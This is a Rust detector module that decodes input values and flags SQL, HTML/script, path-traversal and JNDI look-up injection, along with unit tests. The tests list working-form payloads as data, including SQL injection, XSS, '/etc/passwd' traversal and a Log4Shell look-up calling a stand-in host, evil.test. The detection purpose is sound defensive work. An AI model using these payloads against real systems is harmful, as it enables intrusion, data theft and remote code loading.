//! Detectors over bytes: does this value try to become code where it arrives?
//!
//! [`inspect`] decodes a value as applications do, a bounded number of times, and asks each detector about each
//! distinct reading. A detector knows the grammar that an attacker has to produce, not a list of bad words, and
//! answers with a [`Finding`] that names the reading it saw. Nothing is allocated for a value that is plain.
//!
//! SQL and HTML are judged by a port of libinjection (`libinjectionrs`); own detectors replace it class by class.

mod decode;
mod html;
mod lookup;
mod path;
mod sql;

pub use decode::{Decoding, Readings};

/// What a value tries to become.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Class {
    /// SQL (guide §1).
    Sql,
    /// HTML or script (guide §3).
    Html,
    /// A path out of its directory (guide §9).
    Path,
    /// A look-up that a logger or template evaluates: `${jndi:...}` (guide §9).
    Lookup,
}

impl Class {
    /// The name in events.
    pub const fn name(self) -> &'static str {
        match self {
            Class::Sql => "sql",
            Class::Html => "html",
            Class::Path => "path",
            Class::Lookup => "lookup",
        }
    }

    fn detect(self, reading: &[u8]) -> Option<String> {
        match self {
            Class::Sql => sql::detect(reading),
            Class::Html => html::detect(reading),
            Class::Path => path::detect(reading),
            Class::Lookup => lookup::detect(reading),
        }
    }
}

/// Why a value was found to be an attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// What it tries to become.
    pub class: Class,
    /// One line that a person understands.
    pub reason: String,
    /// What had to be decoded to see it.
    pub decodings: Vec<Decoding>,
}

/// Every class.
pub const ALL: [Class; 4] = [Class::Sql, Class::Html, Class::Path, Class::Lookup];

/// Judges a value in every reading that an application may give it, `rounds` decodings deep, for some classes.
pub fn inspect(value: &[u8], rounds: usize, classes: &[Class]) -> Option<Finding> {
    if is_plain(value) {
        return None;
    }
    let mut readings = Readings::new(value, rounds);
    while let Some(reading) = readings.next_reading() {
        if let Some((class, reason)) = classes.iter().find_map(|class| Some((*class, class.detect(reading)?)))
        {
            return Some(Finding { class, reason, decodings: readings.decodings().to_vec() });
        }
    }
    None
}

/// Letters, digits and a few marks: no grammar that a detector knows can be written with these alone.
fn is_plain(value: &[u8]) -> bool {
    value.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-' | b',' | b'@' | b':'))
        && !value.windows(2).any(|pair| pair == b"..")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn class(value: &str) -> Option<Class> {
        inspect(value.as_bytes(), 3, &ALL).map(|f| f.class)
    }

    #[test]
    fn attacks_are_found_in_every_reading() {
        for (value, expected) in [
            ("' OR '1'='1", Class::Sql),
            ("1 OR 1=1", Class::Sql),
            ("'; DROP TABLE users; --", Class::Sql),
            ("%27%20OR%20%271%27=%271", Class::Sql),
            ("%2527%2520OR%2520%25271%2527=%25271", Class::Sql),
            ("1 UNION SELECT password FROM users", Class::Sql),
            ("<script>alert(1)</script>", Class::Html),
            ("<img src=x onerror=alert(1)>", Class::Html),
            ("&lt;script&gt;alert(1)&lt;/script&gt;", Class::Html),
            ("%3Csvg%20onload=alert(1)%3E", Class::Html),
            ("../../../../etc/passwd", Class::Path),
            ("..%2f..%2f..%2fetc%2fpasswd", Class::Path),
            ("${jndi:ldap://evil.test/a}", Class::Lookup),
            ("${${lower:j}ndi:ldap://evil.test/a}", Class::Lookup),
        ] {
            assert_eq!(class(value), Some(expected), "{value}");
        }
    }

    #[test]
    fn what_people_write_passes() {
        for value in [
            "O'Brien",
            "D'Angelo & Sons, Ltd.",
            "Please select the best option from the menu and drop me a line.",
            "I don't want to update; where is the delete button?",
            "# Title\n\n* item one\n* item **two**\n\n> quoted\n\n[link](https://example.com/a?b=c&d=e)",
            "ünïcödé 日本語 🎉",
            "a=b&c=d",
            "100% sure -- really!",
            "https://example.com/search?q=a%20b&page=2",
            "2026-11-24T10:00:00Z",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            "see ../README for more",
            "price is ${amount} today",
        ] {
            assert_eq!(class(value), None, "{value}: {:?}", inspect(value.as_bytes(), 3, &ALL));
        }
    }
}
